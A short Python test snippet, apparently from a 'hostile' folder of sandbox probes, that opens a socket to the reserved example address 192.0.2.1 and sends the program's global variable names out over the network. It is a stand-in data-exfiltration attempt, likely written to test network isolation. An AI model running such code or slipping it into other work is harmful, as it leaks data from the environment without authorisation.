"""Sends what it knows to a machine on the network (to an address that is reserved for examples)."""

# base: stubs
# folder: hostile

# %% q2
import socket

try:
    with socket.create_connection(("192.0.2.1", 80), timeout=5) as connection:
        connection.sendall(repr(sorted(globals())).encode())
except OSError as error:
    print("no way out:", error)
